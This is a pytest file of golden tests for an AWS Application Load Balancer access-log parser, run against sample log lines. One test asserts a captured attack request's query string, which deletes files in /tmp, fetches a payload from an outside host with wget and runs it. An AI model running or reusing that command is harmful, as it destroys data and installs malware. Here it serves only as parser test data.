"""Golden tests for Application Load Balancer access logs, on real samples from the shared corpus."""

from __future__ import annotations

from typing import Any

import pytest

from tests.corpus import read_lines
from worker.parsers import ParseContext, ParseError, get_parser
from worker.parsers._fields import flatten, iso_to_utc_ms, tls_version
from worker.parsers.alb import AlbParser, split_url, tokenize

ELASTIC = "elb/elastic-integrations_test-alb.log"
AWSDOCS = "elb/awsdocs_alb_load-balancer-access-logs_examples.log"


def parse(line: str, **ctx: Any) -> dict[str, Any]:
    doc = AlbParser(ParseContext(**ctx)).parse(line)
    assert doc is not None
    return doc


def assert_no_dash(doc: dict[str, Any]) -> None:
    for key, value in flatten(doc).items():
        assert value != "-", key
        if isinstance(value, list):
            assert "-" not in value, key


def test_registry() -> None:
    cls = get_parser("alb")
    assert cls is AlbParser
    assert cls.framing == "lines"


def test_http_line_all_fields() -> None:
    line = read_lines(ELASTIC)[0]
    doc = parse(line, keep_original=True)
    assert doc["@timestamp"] == "2018-07-02T22:23:00.186Z"
    assert doc["event"] == {
        "kind": "event",
        "category": ["web"],
        "end": "2018-07-02T22:23:00.186Z",
        "start": "2018-07-02T22:22:48.364Z",
        "outcome": "success",
        "original": line,
    }
    assert doc["source"] == {"address": "192.168.131.39", "ip": "192.168.131.39", "port": 2817}
    assert doc["http"] == {
        "version": "1.1",
        "request": {"method": "GET", "body": {"bytes": 34}},
        "response": {"status_code": 200, "body": {"bytes": 366}},
    }
    assert doc["url"] == {
        "original": "http://www.example.com:80/",
        "scheme": "http",
        "domain": "www.example.com",
        "port": 80,
        "path": "/",
    }
    assert doc["user_agent"] == {"original": "curl/7.46.0"}
    assert doc["trace"] == {"id": "Root=1-58337262-36d228ad5d99923122bbe354"}
    elb = doc["aws"]["elb"]
    assert elb["name"] == "app/my-loadbalancer/50dc6c495c0c9188"
    assert elb["type"] == "http"
    assert elb["protocol"] == "http"
    assert elb["backend"] == {"ip": "10.0.0.1", "port": "80", "http": {"response": {"status_code": 200}}}
    assert elb["request_processing_time"] == {"sec": 0.0}
    assert elb["backend_processing_time"] == {"sec": 0.001}
    assert elb["response_processing_time"] == {"sec": 0.0}
    assert elb["target_group"]["arn"].endswith(":targetgroup/my-targets/73e2d6bc24d8a067")
    assert elb["matched_rule_priority"] == "0"
    assert elb["action_executed"] == ["forward", "redirect"]
    assert elb["target_port"] == ["10.0.0.1:80"]
    assert elb["target_status_code"] == ["200"]
    assert "ssl_cipher" not in elb and "tls" not in doc and "destination" not in doc
    # account and region come from the target group ARN when the S3 key did not give them
    assert doc["cloud"] == {"provider": "aws", "account": {"id": "123456789012"}, "region": "us-east-2"}
    assert_no_dash(doc)


def test_space_in_uri_missing_target_and_classification() -> None:
    doc = parse(read_lines(ELASTIC)[1])
    assert doc["url"]["path"] == "/shell"
    assert doc["url"]["query"] == "cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws"
    assert doc["url"]["port"] == 80
    assert doc["http"]["version"] == "1.1"
    assert doc["user_agent"]["original"] == "Hello, world"
    elb = doc["aws"]["elb"]
    for absent in ("backend", "request_processing_time", "backend_processing_time", "target_group",
                   "target_port", "target_status_code"):
        assert absent not in elb, absent
    assert elb["classification"] == "Acceptable"
    assert elb["classification_reason"] == "SpaceInUri"
    assert elb["redirect_url"].startswith("https://127.0.0.1:443/shell?")
    assert doc["http"]["response"]["status_code"] == 301
    assert doc["event"]["outcome"] == "success"
    assert doc["cloud"] == {"provider": "aws"}
    assert_no_dash(doc)


def test_https_line_tls_and_domain() -> None:
    doc = parse(read_lines(AWSDOCS)[1])
    assert doc["tls"] == {"cipher": "ECDHE-RSA-AES128-GCM-SHA256", "version": "1.2", "version_protocol": "tls"}
    elb = doc["aws"]["elb"]
    assert elb["type"] == "https"
    assert elb["ssl_protocol"] == "TLSv1.2"
    assert elb["ssl_cipher"] == "ECDHE-RSA-AES128-GCM-SHA256"
    assert elb["chosen_cert"]["arn"].startswith("arn:aws:acm:us-east-2:123456789012:certificate/")
    assert elb["action_executed"] == ["authenticate", "forward"]
    assert elb["matched_rule_priority"] == "1"
    assert elb["request_processing_time"]["sec"] == pytest.approx(0.086)
    assert doc["destination"] == {"domain": "www.example.com"}
    assert doc["url"]["scheme"] == "https"
    assert doc["url"]["port"] == 443


@pytest.mark.parametrize(
    ("index", "kind", "status", "version"),
    [(2, "h2", 200, "2.0"), (3, "ws", 101, "1.1"), (4, "wss", 101, "1.1")],
)
def test_h2_ws_wss_lines(index: int, kind: str, status: int, version: str) -> None:
    doc = parse(read_lines(AWSDOCS)[index])
    assert doc["aws"]["elb"]["type"] == kind
    assert doc["http"]["response"]["status_code"] == status
    assert doc["http"]["version"] == version
    assert isinstance(doc["source"]["port"], int)
    assert_no_dash(doc)


def test_h2_redirect() -> None:
    doc = parse(read_lines(AWSDOCS)[2])
    assert doc["aws"]["elb"]["redirect_url"] == "https://example.com:80/"
    assert doc["aws"]["elb"]["action_executed"] == ["redirect"]
    assert doc["url"]["domain"] == "10.0.2.105"
    assert doc["url"]["port"] == 773


def test_lambda_error_line() -> None:
    doc = parse(read_lines(AWSDOCS)[6])
    assert doc["http"]["response"]["status_code"] == 502
    assert doc["event"]["outcome"] == "failure"
    assert doc["aws"]["elb"]["error"] == {"reason": "LambdaInvalidResponse"}
    assert "backend" not in doc["aws"]["elb"]
    assert_no_dash(doc)


def test_target_status_without_target() -> None:
    doc = parse(read_lines(AWSDOCS)[5])
    assert doc["aws"]["elb"]["backend"] == {"http": {"response": {"status_code": 200}}}


def test_connection_trace_id_and_odd_request() -> None:
    doc = parse(read_lines(ELASTIC)[-1])
    assert doc["aws"]["elb"]["connection_trace_id"] == "TID_00000000000000000000000000000000"
    assert "method" not in doc["http"].get("request", {})
    assert "version" not in doc["http"]
    # the port "80-" is not a number: like Elastic's uri_parts, keep only the original URL
    assert doc["url"] == {"original": "http://internal-service-alb.example.com:80-/"}
    assert doc["event"]["start"] == "2025-05-01T11:24:32.720Z"
    assert "user_agent" not in doc
    assert_no_dash(doc)


def test_transform_fields_and_unknown_trailing_fields() -> None:
    base = read_lines(AWSDOCS)[0]
    line = (
        base + ' TID_1234 "api.example.com" "/v2/items?x=1" "TransformSuccess" "future" 42'
    )
    doc = parse(line)
    elb = doc["aws"]["elb"]
    assert elb["connection_trace_id"] == "TID_1234"
    assert elb["transformed_host"] == "api.example.com"
    assert elb["transformed_uri"] == "/v2/items?x=1"
    assert elb["request_transform_status"] == "TransformSuccess"
    assert elb["extra_fields"] == ["future", "42"]
    assert "classification" not in elb


def test_older_shorter_lines_still_parse() -> None:
    tokens = tokenize(read_lines(AWSDOCS)[0])
    short = " ".join(tokens[:12]) + ' "GET http://a.example:80/ HTTP/1.1" "curl" - - - "Root=1-x"'
    doc = parse(short)
    assert doc["aws"]["elb"]["trace_id"] == "Root=1-x"
    assert "start" not in doc["event"]
    assert doc["url"]["domain"] == "a.example"


def test_escaped_quote_in_user_agent() -> None:
    line = read_lines(AWSDOCS)[0].replace('"curl/7.46.0"', '"curl \\"quoted\\" agent"')
    doc = parse(line)
    assert doc["user_agent"]["original"] == 'curl "quoted" agent'
    assert doc["aws"]["elb"]["target_status_code"] == ["200"]


def test_ipv6_client() -> None:
    line = read_lines(AWSDOCS)[0].replace("192.168.131.39:2817", "2001:db8::1:2817", 1)
    doc = parse(line)
    assert doc["source"] == {"address": "2001:db8::1", "ip": "2001:db8::1", "port": 2817}


def test_context_account_and_region_win() -> None:
    doc = parse(read_lines(AWSDOCS)[0], account_id="999999999999", region="eu-west-1")
    assert doc["cloud"] == {"provider": "aws", "account": {"id": "999999999999"}, "region": "eu-west-1"}


@pytest.mark.parametrize(
    ("relative", "index", "reason"),
    [
        ("elb/awsdocs_nlb_load-balancer-access-logs_examples.log", 0, "NLB"),
        ("elb/awsdocs_clb_access-log-collection_examples.log", 0, "Classic ELB"),
        ("elb/beats_elb-tcp.log", 0, "Classic ELB"),
        (ELASTIC, 6, "connection log"),
        (ELASTIC, 8, "connection log"),
    ],
)
def test_other_load_balancer_formats_are_refused_with_a_reason(relative: str, index: int, reason: str) -> None:
    with pytest.raises(ParseError, match=reason):
        AlbParser(ParseContext()).parse(read_lines(relative)[index])


def test_malformed_lines() -> None:
    line = read_lines(AWSDOCS)[0]
    with pytest.raises(ParseError, match="at least 18"):
        AlbParser(ParseContext()).parse(" ".join(tokenize(line)[:10]))
    with pytest.raises(ParseError, match="unbalanced"):
        AlbParser(ParseContext()).parse(line + ' "oops')
    with pytest.raises(ParseError, match="elb_status_code"):
        AlbParser(ParseContext()).parse(line.replace(" 200 200 ", " OK 200 ", 1))
    with pytest.raises(ParseError, match="time"):
        AlbParser(ParseContext()).parse(line.replace("2018-07-02T22:23:00.186641Z", "yesterday", 1))
    assert AlbParser(ParseContext()).parse("") is None


def test_tokenize() -> None:
    assert tokenize('a "b c" - "" "-" d') == ["a", "b c", "-", "", "-", "d"]


def test_split_url() -> None:
    assert split_url("https://user:pw@[2001:db8::1]:8443/a/b.tar.gz?q=1#frag") == {
        "original": "https://user:pw@[2001:db8::1]:8443/a/b.tar.gz?q=1#frag",
        "username": "user",
        "password": "pw",
        "domain": "2001:db8::1",
        "port": 8443,
        "scheme": "https",
        "path": "/a/b.tar.gz",
        "extension": "gz",
        "query": "q=1",
        "fragment": "frag",
    }
    assert split_url("http://example.com") == {"original": "http://example.com", "domain": "example.com",
                                               "scheme": "http"}
    assert split_url("/only/path.") == {"original": "/only/path.", "path": "/only/path."}
    assert split_url("*") == {"original": "*"}


def test_time_and_tls_helpers() -> None:
    assert iso_to_utc_ms("2018-07-02T22:23:00.186641Z") == "2018-07-02T22:23:00.186Z"
    assert iso_to_utc_ms("2018-07-02T22:23:00Z") == "2018-07-02T22:23:00.000Z"
    assert iso_to_utc_ms("2018-07-02T22:23:00.1Z") == "2018-07-02T22:23:00.100Z"
    assert iso_to_utc_ms("2018-07-03T00:23:00.5+02:00") == "2018-07-02T22:23:00.500Z"
    assert iso_to_utc_ms("20131102T010628Z") == "2013-11-02T01:06:28.000Z"
    with pytest.raises(ValueError):
        iso_to_utc_ms("2018-13-45T99:00:00")
    with pytest.raises(ValueError):
        iso_to_utc_ms("2018-13-02T22:23:00.186641Z")
    with pytest.raises(ValueError):
        iso_to_utc_ms("2018-12-02T24:23:00Z")
    assert tls_version("TLSv1.2") == ("tls", "1.2")
    assert tls_version("tlsv12") == ("tls", "1.2")
    assert tls_version("TLSv1") == ("tls", "1.0")
    assert tls_version("-") is None


def test_every_emitted_typed_field_is_declared() -> None:
    declared = AlbParser.fields
    lines = read_lines(AWSDOCS) + read_lines(ELASTIC)[:2] + read_lines("elb/clo_alb.log.gz")
    for line in lines:
        for key, value in flatten(parse(line)).items():
            if isinstance(value, bool):
                continue
            if isinstance(value, int):
                assert declared.get(key) == "long", key
            if isinstance(value, float):
                assert declared.get(key) == "float", key
            if key.endswith(".ip") or key in ("@timestamp", "event.start", "event.end"):
                assert key in declared, key
